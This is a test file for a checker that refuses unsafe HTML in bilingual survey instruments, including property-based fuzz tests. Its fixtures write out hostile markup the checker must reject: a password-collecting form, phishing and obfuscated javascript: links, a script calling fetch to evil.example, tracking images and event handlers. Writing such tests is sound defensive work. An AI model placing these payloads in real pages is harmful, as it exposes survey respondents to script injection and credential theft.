import fc from 'fast-check';
import { Serializer } from 'survey-core';
import { describe, expect, it } from 'vitest';
import { checkInstrument } from '../../functions/domain/instrument-check.js';
import { htmlTexts, linkOriginProblems, linkOrigins, markupProblems, readMarkup, rendersHtml } from '../../functions/domain/instrument-markup.js';
import { linkProblems } from '../../functions/domain/wave-instruments.js';
import { checkInInstrument } from '../support/fixtures.js';

const both = (en: string, cy = en) => ({ en, cy });

/** A survey with one html element, at survey.pages[0].elements[0]. */
const withHtml = (html: unknown) => ({ pages: [{ name: 'p', elements: [{ type: 'html', name: 'note', html }] }] });

/** The check-in fixture with an html element added as survey.pages[0].elements[3]. */
function instrumentWithHtml(html: unknown) {
  const { contentHash: _hash, ...file } = checkInInstrument();
  const survey = structuredClone(file.survey) as { pages: { elements: unknown[] }[] };
  survey.pages[0]!.elements.push({ type: 'html', name: 'note', html });
  return { ...file, survey };
}

describe('instrument HTML', () => {
  it('accepts headings, paragraphs, lists, emphasis and https links', () => {
    const html =
      '<h1>A</h1><h2>B</h2><h3>C</h3><h4>D</h4><h5>E</h5><h6>F</h6>' +
      '<p>Text with <em>em</em>, <strong>strong</strong>, <b>b</b>, <i>i</i>, <span>span</span> and <small>small</small>.<br>Next line<br/></p>' +
      '<ul><li>one</li></ul><ol><li>two</li></ol>' +
      '<p><a href="https://www.meiccymru.org/">Meic</a>, <a href="https://www.samaritans.org/" target="_blank" rel="noopener noreferrer">Samaritans</a></p>' +
      '<p>Fish &amp; chips, 3 < 4, &lt;not a tag&gt;</p>';

    expect(markupProblems(withHtml(both(html)))).toEqual([]);
  });

  it("accepts the shipped instruments' markup: a licence-notice class, and lang on English quoted in Welsh text", () => {
    const survey = withHtml(both('<p class="licence-notice"><small>Contains public sector information.</small></p>', '<p><small>Cymraeg</small></p><p><small lang="en">English</small></p>'));

    expect(markupProblems(survey)).toEqual([]);
  });

  it('refuses a <form action> in an instrument, at the path of the text, so validate and publish refuse it', () => {
    const check = checkInstrument(instrumentWithHtml(both('<p>Hi</p>', '<form action="https://collect.example/"><p>Cyfrinair?</p><input name="password"></form>')));

    expect(check.ok).toBe(false);
    expect(!check.ok && check.problems).toContainEqual({ path: 'survey.pages[0].elements[3].html.cy', message: expect.stringMatching(/^<form> is not allowed: it would send what respondents type to another site/) });
    expect(!check.ok && check.problems).toContainEqual({ path: 'survey.pages[0].elements[3].html.cy', message: expect.stringMatching(/^<input> is not allowed/) });
    expect(!check.ok && check.problems.filter((p) => p.path === 'survey.pages[0].elements[3].html.en')).toEqual([]);
  });

  it('refuses a phishing link to an http:// address', () => {
    expect(markupProblems(withHtml(both('<p><a href="http://meic-cymru.example/login">Sign in to Meic</a></p>')))).toEqual([
      { path: 'survey.pages[0].elements[0].html.en', message: '<a href="http://meic-cymru.example/login"> is not encrypted: link to the https:// address of the site instead' },
      { path: 'survey.pages[0].elements[0].html.cy', message: '<a href="http://meic-cymru.example/login"> is not encrypted: link to the https:// address of the site instead' },
    ]);
  });

  it.each([
    ['a javascript: link', '<a href="javascript:alert(1)">x</a>', /^<a href="javascript:alert\(1\)"> runs code/],
    ['a javascript: link hidden by an entity', '<a href="javascript&colon;alert(1)">x</a>', /^<a href="javascript:alert\(1\)"> runs code/],
    ['a javascript: link split by a newline', '<a href="java\nscript:alert(1)">x</a>', /runs code/],
    ['a data: link', '<a href="data:text/html,<p>hi</p>">x</a>', /^<a href="data:text\/html,<p>hi<\/p>"> carries a whole page/],
    ['a relative link', '<a href="/api/studies">x</a>', /^<a href="\/api\/studies"> is not a whole address/],
    ['a protocol-relative link', '<a href="//evil.example/">x</a>', /^<a href="\/\/evil.example\/"> is not a whole address/],
    ['an https: link without //, which browsers read as relative', '<a href="https:evil.example">x</a>', /is not a whole address/],
    ['a mailto: link', '<a href="mailto:help@example.org">x</a>', /is a mailto: link, and only https:\/\/ links are allowed/],
    ['a link that shows one site and goes to another', '<a href="https://www.meiccymru.org@evil.example/">x</a>', /has a name before "@".*goes to evil\.example/],
    ['a link with a < in it', '<a href="https://x.example/<b>">x</a>', /has spaces, quotes, backslashes, < or >/],
    ['target other than _blank', '<a href="https://x.example/" target="_top">x</a>', /^target="_top" on <a> is not allowed/],
    ['target="_blank" without rel="noopener"', '<a href="https://x.example/" target="_blank">x</a>', /needs rel="noopener"/],
    ['a rel other than noopener or noreferrer', '<a href="https://x.example/" rel="opener">x</a>', /^rel "opener" on <a> is not allowed/],
    ['<script>', '<p>Hi</p><script>fetch("https://evil.example")</script>', /^<script> is not allowed: instruments cannot run code/],
    ['<style>', '<style>.sd-btn { display: none }</style>', /^<style> is not allowed/],
    ['<iframe>', '<iframe src="https://evil.example/"></iframe>', /^<iframe> is not allowed: it would show another site inside the survey/],
    ['<img>', '<img src="https://tracker.example/pixel.gif">', /^<img> is not allowed: a picture from another site/],
    ['<div>', '<div>x</div>', /^<div> is not allowed: instrument HTML may use only h1–h6, p, br, ul, ol, li, em, strong, b, i, span, small and a/],
    ['a comment', '<p>x</p><!-- note to self -->', /^"<!-- note to self -->" is not allowed/],
    ['a CDATA section', '<![CDATA[x]]>', /^"<!\[CDATA\[x\]\]>" is not allowed/],
    ['a doctype', '<!DOCTYPE html><p>x</p>', /^"<!DOCTYPE html>" is not allowed/],
    ['an event handler', '<p onclick="steal()">x</p>', /^the attribute onclick on <p> is not allowed: event handlers run code/],
    ['an event handler after a slash', '<p/onmouseover="steal()">x</p>', /^the attribute onmouseover on <p> is not allowed/],
    ['a style attribute', '<span style="position:fixed;inset:0">x</span>', /^the attribute style on <span> is not allowed/],
    ['any other attribute', '<p id="x">x</p>', /^the attribute id on <p> is not allowed/],
    ['a class borrowed from the survey styles', '<a class="sd-btn" href="https://x.example/">Next</a>', /^class "sd-btn" on <a> is not allowed/],
    ['a lang that is not a language tag', '<span lang="en<x>">x</span>', /is not a language tag/],
    ['a tag the text ends inside', '<p>x</p><a href="https://x.example/"', /is not a finished tag/],
    ['a closing tag with nothing open', '<em>x</em></strong>', /^"<\/strong>" \(character 11\) closes nothing that is open/],
    ['a closing tag of a refused element with nothing open', '<p>x</p></form>', /^<form> is not allowed/],
  ])('refuses %s, at the path of the text', (_, html, message) => {
    const problems = markupProblems(withHtml(both(html, '<p>Iawn</p>')));

    expect(problems).toEqual([{ path: 'survey.pages[0].elements[0].html.en', message: expect.stringMatching(message) }]);
  });

  it('stops reading a text, saying so, when its elements nest too deep or it has too many problems', () => {
    const deep = readMarkup(`${'<span>'.repeat(200_000)}x`);
    const many = readMarkup(Array.from({ length: 1000 }, (_, i) => `<x${i}></x${i}>`).join(''));

    expect(deep.problems).toEqual([expect.stringMatching(/^elements are nested more than 32 deep/)]);
    expect(many.problems).toHaveLength(21);
    expect(many.problems.at(-1)).toMatch(/^there is more wrong with this text/);
  });

  it('finds html elements nested in panels and dynamic panels', () => {
    const survey = {
      pages: [
        {
          name: 'p',
          elements: [
            { type: 'panel', name: 'outer', elements: [{ type: 'text', name: 'q' }, { type: 'panel', name: 'inner', elements: [{ type: 'html', name: 'deep', html: both('<p>ok</p>', '<iframe></iframe>') }] }] },
            { type: 'paneldynamic', name: 'dyn', templateElements: [{ type: 'html', name: 'tmpl', html: both('<script>x</script>') }] },
          ],
        },
      ],
    };

    expect(markupProblems(survey).map((p) => p.path)).toEqual([
      'survey.pages[0].elements[0].elements[1].elements[0].html.cy',
      'survey.pages[0].elements[1].templateElements[0].html.en',
      'survey.pages[0].elements[1].templateElements[0].html.cy',
    ]);
  });

  it('checks the texts survey-core shows around the survey: completedHtml, completedBeforeHtml, loadingHtml, completedHtmlOnCondition', () => {
    const survey = {
      completedHtml: both('<p>Thanks</p>', '<p>Diolch <a href="http://evil.example/">yma</a></p>'),
      completedBeforeHtml: '<form></form>',
      loadingHtml: both('<p>Loading</p>', '<p>Llwytho</p>'),
      completedHtmlOnCondition: [{ expression: '{q} = 1', html: both('<img src="https://evil.example/x.gif">', '<p>Iawn</p>') }],
      pages: [],
    };

    expect(markupProblems(survey).map((p) => p.path)).toEqual(['survey.completedHtml.cy', 'survey.completedBeforeHtml', 'survey.completedHtmlOnCondition[0].html.en']);
  });

  it('leaves titles and descriptions alone: the web app draws them as text (no markdown)', () => {
    const survey = { title: both('Fish <b>&</b> chips'), pages: [{ name: 'p', elements: [{ type: 'text', name: 'q', title: both('1 < 2'), description: both('<i>x</i>') }] }] };

    expect(htmlTexts(survey)).toEqual([]);
  });

  it("knows every property survey-core draws as HTML, so an upgrade adding one fails here", () => {
    const htmlProperties = Serializer.getAllClasses().flatMap((className) =>
      Serializer.getProperties(className)
        .filter((property) => property.type === 'html')
        .map((property) => ({ className, name: property.name })),
    );

    expect(htmlProperties.length).toBeGreaterThan(0);
    expect(htmlProperties.filter(({ className, name }) => !rendersHtml({ type: className }, name))).toEqual([]);
  });

  it('lists the origins a survey links to, each once', () => {
    const survey = {
      completedHtml: both('<p><a href="https://www.samaritans.org/">Samaritans</a></p>'),
      ...withHtml(both('<a href="https://WWW.MeicCymru.org/contact">Meic</a> <a href="https://www.meiccymru.org:443/">Meic</a> <a href="http://evil.example/">no</a>')),
    };

    expect(linkOrigins(survey)).toEqual(['https://www.meiccymru.org', 'https://www.samaritans.org']);
  });

  it("refuses links to an origin none of the allowed addresses has, naming the path and the origin", () => {
    const survey = withHtml(both('<a href="https://www.meiccymru.org/help">Meic</a>', '<a href="https://meiccymru.org/">Meic</a> <a href="https://evil.example/">x</a>'));

    const problems = linkOriginProblems(survey, ['https://www.meiccymru.org/', undefined, 'not a url']);

    expect(problems).toEqual([
      { path: 'survey.pages[0].elements[0].html.cy', origin: 'https://meiccymru.org', message: expect.stringContaining('https://meiccymru.org') },
      { path: 'survey.pages[0].elements[0].html.cy', origin: 'https://evil.example', message: expect.stringContaining('https://evil.example') },
    ]);
  });

  it("names the instrument, its place in the wave and the JSON path of a link a wave's study does not name", () => {
    const { contentHash: _a, ...plain } = checkInInstrument({ id: 'plain' });
    const { contentHash: _b, ...linking } = checkInInstrument({ id: 'linking', survey: withHtml(both('<a href="https://www.samaritans.org/">S</a>', '<a href="https://evil.example/">x</a>')) });

    const problems = linkProblems([plain, linking], [{ url: 'https://www.samaritans.org/' }, {}]);

    expect(problems).toEqual([
      {
        path: 'instruments[1].survey.pages[0].elements[0].html.cy',
        instrumentId: 'linking',
        version: '1.0.0',
        origin: 'https://evil.example',
        message: expect.stringMatching(/^linking@1\.0\.0 links to https:\/\/evil\.example, which none of the study's support contacts names/),
      },
    ]);
  });
});

describe('instrument HTML, whatever the text', () => {
  // Random text, salted with the pieces markup is made of, so the parser's odd corners get visited.
  const piece = fc.oneof(
    fc.string({ maxLength: 8 }),
    fc.constantFrom('<', '>', '</', '/>', '<!--', '-->', '<!', '<?', '"', "'", '=', '&', '&lt;', '&#x3c;', ' ', '\n', '<p>', '</p>', '<a href="', '<a href=', 'https://x.example/', 'javascript:', '<br', '<span lang="', '<p class="', '<a target="', '<a rel="', '<title>', '<textarea>'),
  );
  const text = fc.array(piece, { maxLength: 12 }).map((pieces) => pieces.join(''));

  it('never crashes on any text, and answers only problems that say something', () => {
    fc.assert(
      fc.property(text, (html) => {
        const { problems, links } = readMarkup(html);
        expect(problems.every((p) => typeof p === 'string' && p.length > 0)).toBe(true);
        expect(links.every((link) => link.origin.startsWith('https://'))).toBe(true);
      }),
      { numRuns: 3000 },
    );
  });

  it('never crashes on any survey JSON', () => {
    fc.assert(
      fc.property(fc.jsonValue(), (survey) => {
        expect(Array.isArray(markupProblems({ completedHtml: survey, pages: [{ elements: [{ type: 'html', html: survey }] }] }))).toBe(true);
      }),
      { numRuns: 500 },
    );
  });

  it('refuses any text containing <script, wherever it sits', () => {
    fc.assert(
      fc.property(text, fc.constantFrom('<script', '<SCRIPT', '<Script'), text, (before, script, after) => {
        expect(readMarkup(`${before}${script}${after}`).problems).not.toEqual([]);
      }),
      { numRuns: 3000 },
    );
  });
});
